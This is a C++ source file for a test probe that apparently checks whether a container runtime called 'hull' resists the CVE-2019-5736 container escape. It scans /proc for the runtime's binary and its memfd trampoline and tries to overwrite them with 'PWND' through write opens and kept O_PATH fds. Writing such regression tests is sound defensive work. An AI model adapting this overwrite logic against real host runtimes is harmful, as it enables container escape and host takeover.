// probe: attack-exe, the CVE-2019-5736 attacker (usage in main.cpp). From inside the
// container it looks for hull's own binary (by dev:ino) and for hull's memfd trampoline (by
// its /proc/PID/exe link) behind every visible /proc/PID/exe and tries to open them for
// writing, directly and later through kept O_PATH fds.
#include "probe.hpp"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

namespace probe {
namespace {

constexpr std::size_t kMaxKept = 32; // O_PATH fds kept per target kind
constexpr const char* kTrampolinePrefix = "/memfd:hull-trampoline";

// One kind of target (hull's binary, or the trampoline) and the counts of attacks on it.
struct Target {
    long seen = 0;
    long attempts = 0;
    long write_opens = 0;
    long written = 0;                         // pwrite of "PWND" returned 4
    std::map<std::string, long> errors;       // failed opens: strerror -> count
    std::map<std::string, long> write_errors; // failed pwrites: strerror -> count
    std::vector<int> kept;

    void try_write(const std::string& path) {
        for (int flags : {O_WRONLY, O_RDWR}) {
            ++attempts;
            int w = ::open(path.c_str(), flags | O_CLOEXEC);
            if (w < 0) {
                ++errors[std::strerror(errno)];
                continue;
            }
            ++write_opens;
            if (::pwrite(w, "PWND", 4, 0) == 4)
                ++written;
            else
                ++write_errors[std::strerror(errno)];
            ::close(w);
        }
    }

    // Attacks the file behind O_PATH fd `fd` (opened from `exe`) and keeps the fd.
    void hit(const std::string& exe, int fd) {
        ++seen;
        try_write(exe);
        if (kept.size() < kMaxKept)
            kept.push_back(fd);
        else
            ::close(fd);
    }

    void retry_kept() {
        for (int fd : kept)
            try_write("/proc/self/fd/" + std::to_string(fd));
    }
};

json counts(const std::map<std::string, long>& m) {
    json out = json::object();
    for (const auto& [k, v] : m)
        out[k] = v;
    return out;
}

bool is_trampoline(int fd) {
    auto target = read_link("/proc/self/fd/" + std::to_string(fd));
    return target && target->starts_with(kTrampolinePrefix);
}

} // namespace

int cmd_attack_exe(char** argv) {
    const auto dev = static_cast<dev_t>(std::stoull(argv[2]));
    const auto ino = static_cast<ino_t>(std::stoull(argv[3]));
    const std::string stop = argv[4];
    long denied = 0, scans = 0;
    Target hull, trampoline;
    auto retry_kept = [&] {
        hull.retry_kept();
        trampoline.retry_kept();
    };
    while (::access(stop.c_str(), F_OK) != 0) {
        ++scans;
        DIR* d = ::opendir("/proc");
        if (!d) return fail("opendir /proc");
        while (dirent* e = ::readdir(d)) {
            char* end = nullptr;
            long pid = std::strtol(e->d_name, &end, 10);
            if (*end || pid <= 0 || pid == ::getpid()) continue;
            std::string exe = std::string("/proc/") + e->d_name + "/exe";
            int fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM) ++denied;
                continue;
            }
            struct stat st {};
            if (::fstat(fd, &st) != 0) {
                ::close(fd);
                continue;
            }
            if (st.st_dev == dev && st.st_ino == ino)
                hull.hit(exe, fd);
            else if (is_trampoline(fd))
                trampoline.hit(exe, fd);
            else
                ::close(fd);
        }
        ::closedir(d);
        retry_kept();
    }
    retry_kept(); // hull has exited by now: nothing runs the file any more
    json out = {{"attempts", hull.attempts},
                {"write_opens", hull.write_opens},
                {"hull_seen", hull.seen},
                {"denied", denied},
                {"scans", scans},
                {"errors", counts(hull.errors)},
                {"trampoline_seen", trampoline.seen},
                {"trampoline_attempts", trampoline.attempts},
                {"trampoline_write_opens", trampoline.write_opens},
                {"trampoline_written", trampoline.written},
                {"trampoline_errors", counts(trampoline.errors)},
                {"trampoline_write_errors", counts(trampoline.write_errors)}};
    return write_report(out, argv[5]);
}

} // namespace probe
